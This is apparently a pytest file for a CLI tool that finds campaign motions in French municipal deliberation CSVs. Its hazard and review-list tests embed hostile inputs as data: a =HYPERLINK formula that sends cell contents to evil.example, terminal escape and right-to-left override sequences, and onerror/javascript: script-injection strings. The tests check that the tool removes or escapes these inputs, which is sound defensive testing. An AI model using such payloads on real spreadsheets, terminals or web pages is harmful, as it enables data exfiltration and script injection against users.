"""`petition discover`: a campaign's motions found in published SCDL deliberations.

The corpus in tests/data/discover/sources is what publishers write: a town's file (UTF-8 with a
BOM, CRLF), an agglomeration's (cp1252, semicolons, dates JJ/MM/AAAA, SIRETs with spaces, a
malformed line), an aggregator's republishing a town's motion, a town's file broken by an
unclosed quote. Among ordinary deliberations: motions in varied wording, near misses (« Marée
vive », « Carmaux », « CARMAS », half an expression), a motion already in the repository. The same
candidates come out of the files, their folder and a local HTTP server."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from conftest import CAMPAIGN, CAMPAIGN_2022, RepoBuilder
from discover_corpus import (
    CORPUS,
    FILES,
    KEYWORDS,
    SUMMARY,
    body,
    expected_lines,
    expected_problems,
    rows_of,
    searched_fixture,  # noqa: F401 - the fixture `searched`
    set_keywords,
)
from discover_standin import StandIn, standin_fixture  # noqa: F401 - the fixture `standin`
from petition.core.keywords import Expressions
from petition.exchange.csvformats import SCDL_COLUMNS


# --- the corpus, three ways ----------------------------------------------------------------------
def test_corpus_from_files(searched: RepoBuilder, tmp_path: Path) -> None:
    out = tmp_path / "candidates.csv"
    paths = {name: str(CORPUS / name) for name in FILES}
    result = searched.run("discover", *paths.values(), "--campaign", CAMPAIGN, "-o", str(out))
    assert result.exit_code == 1  # two malformed lines
    assert result.stdout.splitlines() == expected_lines(paths)
    assert result.stderr.splitlines() == [*expected_problems(paths), SUMMARY,
                                          f"Candidates de {CAMPAIGN} écrites dans {out} : relisez "
                                          f"chaque délibération avant « petition import {out} "
                                          f"--campaign {CAMPAIGN} »."]
    rows = rows_of(out)
    assert [(r["COLL_SIRET"], r["DELIB_DATE"], r["DELIB_ID"]) for r in rows] == [
        ("24620036400015", "2023-12-05", "DEL-2023-302"),  # spaces removed, JJ/MM/AAAA read
        ("21620510400013", "2023-10-12", "2023-118"),
        ("21570463600012", "2023-03-30", "DCM-23-045"),
        ("21620510400013", "2023-11-16", "2023-121"),
        ("21590350100017", "2023-04-07", "23/0230"),
    ]
    assert rows[0]["PREF_DATE"] == "2023-12-06"
    assert rows[0]["DELIB_OBJET"] == "VŒU POUR LA CAISSE-DES-MARAIS-SALANTS ET SON OFFRE DE SOINS"
    assert out.read_bytes().startswith(",".join(SCDL_COLUMNS).encode() + b"\r\n")


def test_corpus_from_a_folder(searched: RepoBuilder, tmp_path: Path) -> None:
    folder = tmp_path / "telechargements"
    shutil.copytree(CORPUS, folder)
    out = tmp_path / "candidates.csv"
    result = searched.run("discover", str(folder), "--campaign", CAMPAIGN, "-o", str(out))
    paths = {name: str(folder / name) for name in FILES}
    assert (result.exit_code, result.stdout.splitlines()) == (1, expected_lines(paths))
    assert result.stderr.splitlines()[:4] == [
        f"{folder / 'LISEZMOI.txt'}:1: avertissement : fichier non lu : seuls les fichiers .csv "
        "d'un dossier sont lus", *expected_problems(paths)]
    assert len(rows_of(out)) == 5


def test_corpus_from_a_web_server(searched: RepoBuilder, tmp_path: Path,
                                  standin: StandIn) -> None:
    for name in FILES:
        standin.files[f"/actes/{name}"] = (CORPUS / name).read_bytes()
    addresses = {name: f"{standin.url}/actes/{name}" for name in FILES}
    out = tmp_path / "candidates.csv"
    result = searched.run("discover", *addresses.values(), "--campaign", CAMPAIGN, "-o", str(out))
    assert (result.exit_code, result.stdout.splitlines()) == (1, expected_lines(addresses))
    assert result.stderr.splitlines()[:3] == expected_problems(addresses)
    assert rows_of(out) == rows_of(out)  # read twice: a complete file
    assert len(rows_of(out)) == 5


def test_candidates_import_once_reviewed(searched: RepoBuilder, tmp_path: Path) -> None:
    out = tmp_path / "candidates.csv"
    searched.run("discover", *(str(CORPUS / n) for n in FILES), "--campaign", CAMPAIGN,
                 "-o", str(out))
    result = searched.run("import", str(out), "--campaign", CAMPAIGN)
    assert result.exit_code == 0, result.output
    assert "5 ligne(s) lue(s) : 5 motion(s) écrite(s)" in result.stderr
    # Searched again, nothing is left: every motion is now in the repository.
    again = searched.run("discover", *(str(CORPUS / n) for n in FILES), "--campaign", CAMPAIGN)
    assert again.stdout == ""
    assert f"Aucune délibération candidate pour {CAMPAIGN}" in again.stderr
    # Lens, the five imported, and the town's own copy of the motion the aggregator republished.
    assert "7 déjà dans le dépôt" in again.stderr


def test_a_row_the_import_would_refuse_is_said(searched: RepoBuilder) -> None:
    """The town's own file carries a PREF_ID that is not the SCDL identifier: the candidate is
    listed with what to fix before importing."""
    result = searched.run("discover", str(CORPUS / "ville-lievin.csv"), "--campaign", CAMPAIGN)
    assert result.exit_code == 0
    notes = [line for line in result.stderr.splitlines() if "refusera" in line]
    assert len(notes) == 1
    assert notes[0].startswith(f"{CORPUS / 'ville-lievin.csv'}:3: avertissement : candidate pour "
                               f"{CAMPAIGN} : l'import la refusera telle quelle : colonne "
                               "« PREF_ID » : ")


# --- matching ------------------------------------------------------------------------------------
@pytest.mark.parametrize(("text", "expected"), [
    ("Motion de soutien à Marévie", "Marévie"),
    ("MOTION MAREVIE", "Marévie"),
    ("motion marévie.", "Marévie"),
    ("Marée vive", None),
    ("Marévies", None),  # another word
    ("Convention avec Carmaux", None),
    ("groupement CARMAS", None),
    ("xCARMA", None),
    ("voeu-carma-2023.pdf", "CARMA"),
    ("voeu_carma.pdf", "CARMA"),
    ("CAISSE-DES-MARAIS-SALANTS", "caisse des marais salants"),
    ("la Caisse des marais\nsalants", "caisse des marais salants"),
    ("la caisse des marais", None),
    ("caisse des marais salants et CARMA", "caisse des marais salants"),
    ("Mare\u0301vie", "Marévie"),  # decomposed accent, as macOS writes it
    ("ＣＡＲＭＡ", "CARMA"),  # full-width letters
])
def test_expressions_match_whole_words_whatever_the_case_accents_and_hyphens(
        text: str, expected: str | None) -> None:
    assert Expressions(KEYWORDS).find(text) == expected


def test_words_of_an_expression_may_be_joined() -> None:
    expressions = Expressions(["Sainte-Marie Santé"])
    assert expressions.find("Réseau SAINTEMARIE-SANTE") == "Sainte-Marie Santé"
    assert expressions.find("Sainte Marie, Santé") == "Sainte-Marie Santé"
    assert expressions.find("Sainte-Marie-Santé-Plus") == "Sainte-Marie Santé"
    assert expressions.find("Sainte-Marie Santés") is None


def test_the_body_name_is_not_searched(searched: RepoBuilder, tmp_path: Path) -> None:
    source = tmp_path / "f.csv"
    source.write_text(",".join(SCDL_COLUMNS) + "\n" + ",".join(
        ["Marévie", "21590350100017", "1", "2023-04-07", "7.1", "x", "Budget primitif", *[""] * 10])
        + "\n", "utf-8")
    result = searched.run("discover", str(source), "--campaign", CAMPAIGN)
    assert (result.exit_code, result.stdout) == (0, "")


def test_publishers_extra_columns_are_searched(searched: RepoBuilder, tmp_path: Path) -> None:
    source = tmp_path / "f.csv"
    source.write_text(",".join([*SCDL_COLUMNS, "DELIB_RESUME"]) + "\n" + ",".join(
        ["Lille", "21590350100017", "1", "2023-04-07", "9.4", "x", "Motion n° 12", *[""] * 10,
         "Soutien au réseau Marévie"]) + "\n", "utf-8")
    result = searched.run("discover", str(source), "--campaign", CAMPAIGN)
    assert result.stdout == (f"{source}:2: 2023-04-07, {body('commune', '59350')} : « Motion n° 12 » "
                             "(mot-clé « Marévie »)\n")


# --- what publishers write ---------------------------------------------------------------------
SCDL_ROW = ["Lille", "215 903 501 00017", "23/0230", "07/04/2023", "9.4", "x",
            "Motion de soutien à Marévie", *[""] * 10]


@pytest.mark.parametrize(("encoding", "separator", "ending"), [
    ("utf-8", ",", "\n"), ("utf-8-sig", ";", "\r\n"), ("cp1252", ";", "\r\n"),
    ("cp1252", ",", "\r"),  # old Mac spreadsheets end lines with CR alone
    ("utf-8-sig", "\t", "\n"),
])
def test_dialects_of_real_publishers(searched: RepoBuilder, tmp_path: Path, encoding: str,
                                     separator: str, ending: str) -> None:
    source = tmp_path / "f.csv"
    ordinary = ["Lille", "21590350100017", "2", "2023-04-07", "7.1", "x", "Décision modificative",
                *[""] * 10]
    text = ending.join(separator.join(r) for r in (SCDL_COLUMNS, ordinary, SCDL_ROW)) + ending
    source.write_bytes(text.encode(encoding))
    out = tmp_path / "out.csv"
    result = searched.run("discover", str(source), "--campaign", CAMPAIGN, "-o", str(out))
    assert (result.exit_code, result.stdout) == (0, f"{source}:3: 2023-04-07, "
                                                    f"{body('commune', '59350')} : « Motion de "
                                                    "soutien à Marévie » (mot-clé « Marévie »)\n")
    [row] = rows_of(out)
    assert (row["COLL_SIRET"], row["DELIB_DATE"], row["DELIB_OBJET"]) == (
        "21590350100017", "2023-04-07", "Motion de soutien à Marévie")


def test_utf16_and_template_files_are_named(searched: RepoBuilder, tmp_path: Path) -> None:
    utf16 = tmp_path / "unicode.csv"
    utf16.write_bytes((",".join(SCDL_COLUMNS) + "\n").encode("utf-16"))
    template = tmp_path / "modele.csv"
    template.write_text("type,code,nom,date,nature,objet,effectif,presents,pouvoirs,pour,contre,"
                        "abstentions,resultat,url\n", "utf-8")
    missing = tmp_path / "absent.csv"
    result = searched.run("discover", str(utf16), str(template), str(missing), "--campaign",
                          CAMPAIGN)
    assert result.exit_code == 1
    assert result.stderr.splitlines()[:3] == [
        f"{utf16}:1: fichier en UTF-16 (« texte Unicode ») : dans le tableur, enregistrez-le en "
        "« CSV UTF-8 »",
        f"{template}:1: fichier au format du modèle de « petition import », pas au format SCDL "
        "délibérations : importez-le directement",
        f"{missing}:1: fichier ou dossier introuvable"]


# --- hazards -------------------------------------------------------------------------------------
@pytest.mark.parametrize(("cell", "said"), [
    ('=HYPERLINK("https://evil.example/?"&A1) Marévie', "commence par « = »"),
    ("'=1+1 Marévie", "commence par « = »"),  # the apostrophe a spreadsheet adds is not a defence
    ("-Marévie : motion", "commence par « - »"),
    ("\tMotion Marévie", "commence par une tabulation"),
])
def test_formula_cells_are_left_out_not_altered(searched: RepoBuilder, tmp_path: Path, cell: str,
                                                said: str) -> None:
    source = tmp_path / "f.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(SCDL_COLUMNS)
        writer.writerow(["Lille", "21590350100017", "1", "2023-04-07", "9.4", "x", cell, *[""] * 10])
    out = tmp_path / "out.csv"
    result = searched.run("discover", str(source), "--campaign", CAMPAIGN, "-o", str(out))
    assert result.exit_code == 1
    assert result.stdout == ""
    [problem] = [line for line in result.stderr.splitlines() if line.startswith(f"{source}:2:")]
    assert said in problem and "colonne « DELIB_OBJET »" in problem
    assert problem.endswith(f"délibération candidate pour {CAMPAIGN} laissée hors du fichier des "
                            "candidats : recopiez-la à la main après l'avoir vérifiée")
    assert rows_of(out) == []
    assert "0 délibération(s)" not in result.stderr and "1 laissée(s) de côté" in result.stderr


def test_publishers_text_reaches_the_terminal_escaped(searched: RepoBuilder, tmp_path: Path) -> None:
    source = tmp_path / "f.csv"
    objet = "Motion Marévie \x1b]0;pwned\x07\x1b[2K\u202egnp.exe"
    source.write_bytes((",".join(SCDL_COLUMNS) + "\n" + ",".join(
        ["Lille\x1b[31m", "21590350100017", "1", "2023-04-07", "9.4", "x", objet, *[""] * 10])
        + "\n").encode("utf-8"))
    result = searched.run("discover", str(source), "--campaign", CAMPAIGN)
    assert "\x1b" not in result.output and "\u202e" not in result.output
    # Said, escaped, in the reason the row is left out.
    assert (f"{source}:2: colonne « COLL_NOM » : caractère de contrôle interdit (U+001B) : "
            "supprimez-le") in result.stderr


def test_set_aside_deliberations_are_not_proposed_again(searched: RepoBuilder) -> None:
    """A coordinator moved the Metz row to decouvertes/<campagne>-ecartees.csv: it stays out."""
    with (CORPUS / "gip-actes.csv").open(encoding="utf-8", newline="") as handle:
        lines = handle.read().splitlines(keepends=True)
    searched.write(f"decouvertes/{CAMPAIGN}-ecartees.csv", lines[0] + lines[2])
    result = searched.run("discover", str(CORPUS / "gip-actes.csv"), "--campaign", CAMPAIGN)
    assert [line.split(": ", 1)[0] for line in result.stdout.splitlines()] == [
        f"{CORPUS / 'gip-actes.csv'}:2"]
    assert "1 déjà écartée(s)" in result.stderr


def test_nothing_found_is_not_an_error(searched: RepoBuilder, tmp_path: Path) -> None:
    source = tmp_path / "f.csv"
    source.write_text(",".join(SCDL_COLUMNS) + "\n", "utf-8")
    out = tmp_path / "out.csv"
    result = searched.run("discover", str(source), "--campaign", CAMPAIGN, "-o", str(out))
    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr.splitlines()[0] == (f"Aucune délibération candidate pour {CAMPAIGN} : 1 "
                                             "fichier(s) SCDL lu(s), 0 délibération(s) ; 0 déjà "
                                             "dans le dépôt, 0 déjà écartée(s), 0 en double, 0 "
                                             "laissée(s) de côté (cellule dangereuse).")
    assert out.read_bytes() == (",".join(SCDL_COLUMNS) + "\r\n").encode()


def test_a_candidate_outside_the_campaign_period_is_said(searched: RepoBuilder) -> None:
    path = searched.root / "motions" / CAMPAIGN / "campagne.yml"
    path.write_text(path.read_text("utf-8") + "periode:\n  debut: \"2023-09-01\"\n", "utf-8")
    result = searched.run("discover", str(CORPUS / "gip-actes.csv"), "--campaign", CAMPAIGN)
    assert result.stdout.count("\n") == 2  # still a candidate: a person decides
    assert (f"{CORPUS / 'gip-actes.csv'}:3: avertissement : candidate pour {CAMPAIGN} : séance "
            "hors de la période de la campagne (2023-09-01 – …)") in result.stderr.splitlines()


# --- several campaigns, usage --------------------------------------------------------------------
def test_every_campaign_with_expressions_by_default(searched: RepoBuilder, tmp_path: Path) -> None:
    set_keywords(searched, CAMPAIGN_2022, ["CARMA"])
    result = searched.run("discover", str(CORPUS / "gip-actes.csv"), "--output-dir",
                          str(tmp_path / "dossier"), "--review", str(tmp_path / "relire.md"))
    source = CORPUS / "gip-actes.csv"
    liévin = (f"{source}:2: [{{}}] 2023-10-12, {body('commune', '62510')} : « Motion de soutien au "
              "réseau de santé Marévie (réseau régional) » (mot-clé « Marévie »)")
    metz = (f"{source}:3: [{{}}] 2023-03-30, {body('commune', '57463')} : « Motion : CARMA, "
            "Marévie et l'avenir des centres de santé » (mot-clé « CARMA »)")
    # Row by row, each campaign in the order of their names (CAMPAIGN_2022 declares only CARMA).
    assert result.stdout.splitlines() == [liévin.format(CAMPAIGN), *(
        metz.format(c) for c in sorted([CAMPAIGN, CAMPAIGN_2022]))]
    assert sorted(p.name for p in (tmp_path / "dossier").iterdir()) == [f"{CAMPAIGN_2022}.csv",
                                                                       f"{CAMPAIGN}.csv"]
    assert len(rows_of(tmp_path / "dossier" / f"{CAMPAIGN}.csv")) == 2


@pytest.mark.parametrize(("args", "message"), [
    ((), "donnez au moins une SOURCE"),
    (("f.csv", "-o", "a.csv", "--output-dir", "d"), "-o et --output-dir ensemble"),
    (("ftp://example.fr/f.csv",), "ftp://example.fr/f.csv"),
    (("f.csv", "--campaign", "inconnue"), "campagne « inconnue » inconnue"),
])
def test_usage_errors(searched: RepoBuilder, args: tuple[str, ...], message: str) -> None:
    result = searched.run("discover", *args)
    assert result.exit_code == 2
    assert message in result.stderr


def test_a_campaign_without_expressions_is_a_usage_error(searched: RepoBuilder) -> None:
    result = searched.run("discover", "f.csv", "--campaign", CAMPAIGN_2022)
    assert result.exit_code == 2
    assert (f"la campagne {CAMPAIGN_2022} ne déclare pas de « mots_cles » : ajoutez-les dans "
            f"motions/{CAMPAIGN_2022}/campagne.yml") in " ".join(result.stderr.split())


def test_one_output_file_for_one_campaign(searched: RepoBuilder) -> None:
    set_keywords(searched, CAMPAIGN_2022, ["CARMA"])
    result = searched.run("discover", "f.csv", "-o", "a.csv")
    assert result.exit_code == 2
    assert "-o écrit les candidates d'une seule campagne" in result.stderr


# --- the review list -----------------------------------------------------------------------------
def test_review_list_links_each_document_and_escapes_publishers_text(
        searched: RepoBuilder, tmp_path: Path) -> None:
    source = tmp_path / "f.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(SCDL_COLUMNS)
        writer.writerow(["Lille", "21590350100017", "1", "2023-04-07", "9.4", "x",
                         "Motion Marévie <img src=x onerror=alert(1)> [x](javascript:y)",
                         *[""] * 9, "https://www.lille.example/actes/23-0230.pdf"])
        writer.writerow(["Lille", "21590350100017", "2", "2023-04-08", "9.4", "x", "Vœu Marévie",
                         *[""] * 9, "javascript:alert(1)"])
    review = tmp_path / "relire.md"
    searched.run("discover", str(source), "--campaign", CAMPAIGN, "--review", str(review))
    text = review.read_text("utf-8")
    assert "- [ ] **Lille (commune 59350)**, séance du 7\u00a0avril 2023 : « Motion Marévie " \
           "&lt;img src&#61;x onerror&#61;alert(1)&gt; &#91;x&#93;(javascript:y) »" in text
    assert "  - document : <https://www.lille.example/actes/23-0230.pdf>" in text
    assert "  - document : javascript:alert(1)" in text  # shown as text, never a link
    assert "<img" not in text and "](javascript" not in text
    assert "petition import decouvertes/<campagne>.csv --campaign <campagne>" in text


# --- campaign files ------------------------------------------------------------------------------
def test_expressions_are_checked_in_the_campaign_file(repo: RepoBuilder) -> None:
    set_keywords(repo, CAMPAIGN, ["CARMA", "Carma", "---", "ab"])
    result = repo.run("validate")
    path = f"motions/{CAMPAIGN}/campagne.yml"
    lines = [line for line in result.stdout.splitlines() if line.startswith(path)]
    assert result.exit_code == 1
    assert any("mot-clé « --- » sans lettre ni chiffre" in line for line in lines)
    assert any("avertissement : mots-clés « CARMA » et « Carma » identiques" in line for line in lines)
    assert any(line.endswith("(Mot-clé) : texte de 2 caractères, au moins 3 attendus")
               for line in lines)


def test_progress_bar_never_on_a_pipe(searched: RepoBuilder) -> None:
    result = searched.run("discover", *(str(CORPUS / n) for n in FILES), "--campaign", CAMPAIGN)
    assert "Lecture" not in result.stderr


def test_csv_written_is_what_csv_readers_read(searched: RepoBuilder, tmp_path: Path) -> None:
    out = tmp_path / "candidates.csv"
    searched.run("discover", str(CORPUS / "ville-lievin.csv"), "--campaign", CAMPAIGN, "-o", str(out))
    raw = out.read_bytes().decode("utf-8")
    assert next(csv.reader(io.StringIO(raw, newline=""))) == list(SCDL_COLUMNS)
